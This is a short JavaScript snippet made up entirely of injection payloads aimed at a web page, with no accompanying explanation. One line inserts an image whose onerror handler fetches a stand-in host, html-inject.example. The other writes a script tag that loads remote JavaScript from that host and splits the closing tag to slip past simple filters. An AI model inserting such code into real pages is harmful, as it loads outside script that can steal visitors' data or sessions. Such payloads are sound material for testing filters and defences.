document.body.insertAdjacentHTML("beforeend", '<img src="https://pix.html-inject.example/p" onerror="fetch(\'https://pix.html-inject.example/q\')">');
document.write("<script src='https://pix.html-inject.example/w.js'></scr" + "ipt>");
